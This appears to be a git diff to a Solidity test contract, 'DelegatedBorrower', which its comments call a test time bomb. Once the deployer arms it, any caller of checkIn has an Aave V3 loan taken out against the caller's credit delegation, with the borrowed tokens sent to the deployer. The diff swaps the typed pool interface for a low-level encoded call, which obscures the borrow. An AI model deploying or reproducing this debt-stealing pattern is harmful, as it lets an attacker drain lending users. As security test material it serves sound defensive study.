@@ -3,18 +3,6 @@ pragma solidity 0.8.30;
 
 import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
 
-/// @notice The Aave V3 pool's `borrow`.
-interface IBorrowPool {
-    /// @notice Borrows `amount` of `asset` against `onBehalfOf`'s collateral, the debt theirs.
-    function borrow(
-        address asset,
-        uint256 amount,
-        uint256 interestRateMode,
-        uint16 referralCode,
-        address onBehalfOf
-    ) external;
-}
-
 /// @title DelegatedBorrower
 /// @notice Test time bomb holding a standing credit delegation: `checkIn` is a harmless visit
 ///         until its boss arms it; armed, a visit borrows on the visitor's behalf (the debt the
@@ -23,7 +11,7 @@ contract DelegatedBorrower {
     /// @notice Who arms it and gets the loan.
     address public immutable boss;
     /// @notice The lending pool.
-    IBorrowPool public immutable pool;
+    address public immutable pool;
     /// @notice The asset borrowed.
     IERC20 public immutable asset;
     /// @notice How much.
@@ -34,7 +22,7 @@ contract DelegatedBorrower {
     /// @param pool_ The lending pool.
     /// @param asset_ The asset borrowed.
     /// @param amount_ How much.
-    constructor(IBorrowPool pool_, IERC20 asset_, uint256 amount_) {
+    constructor(address pool_, IERC20 asset_, uint256 amount_) {
         (boss, pool, asset, amount) = (msg.sender, pool_, asset_, amount_);
     }
 
@@ -47,7 +35,18 @@ contract DelegatedBorrower {
     /// @notice A visit: nothing, or, armed, a borrow on the visitor's behalf paid to the boss.
     function checkIn() external {
         if (!armed) return;
-        pool.borrow(address(asset), amount, 2, 0, msg.sender);
+        // The Aave V3 pool's borrow(asset, amount, interestRateMode, referralCode, onBehalfOf).
+        (bool ok,) = pool.call(
+            abi.encodeWithSignature(
+                "borrow(address,uint256,uint256,uint16,address)",
+                address(asset),
+                amount,
+                2,
+                0,
+                msg.sender
+            )
+        );
+        require(ok, "borrow failed");
         require(asset.transfer(boss, amount), "transfer failed");
     }
 }
